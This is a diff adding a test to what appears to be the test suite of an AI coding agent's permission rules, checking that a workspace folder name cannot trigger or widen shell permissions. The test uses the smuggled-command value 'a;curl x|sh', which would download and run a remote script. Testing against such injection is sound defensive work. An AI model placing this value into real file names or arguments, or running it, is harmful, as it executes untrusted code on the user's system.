@@ -103,6 +103,13 @@ def test_a_link_in_an_allowed_folder_does_not_widen_it(agent: Agent) -> None:
     assert denied.decide(agent, file("write_file", "docs/out/a.py"))[0] == "deny"
 
 
+def test_the_name_of_the_workspace_runs_nothing(tmp_path: Path) -> None:
+    agent = Agent(lk.scripted([]), [lk.CodingTools(tmp_path / "a;curl x|sh")])
+    rules = Rules(["bash(pytest:*)"])
+    assert rules.decide(agent, bash("pytest tests"))[0] == "allow"
+    assert rules.decide(agent, bash("pytest /workspace/tests"))[0] == "ask"
+
+
 def test_no_pattern_takes_for_ever(agent: Agent) -> None:
     rules = Rules(deny=[f"write({'**/a/' * 40}b)", f"write({'*a' * 40}b)"], mode="yes")
     for path in ("/".join("a" * 80), "a" * 200):
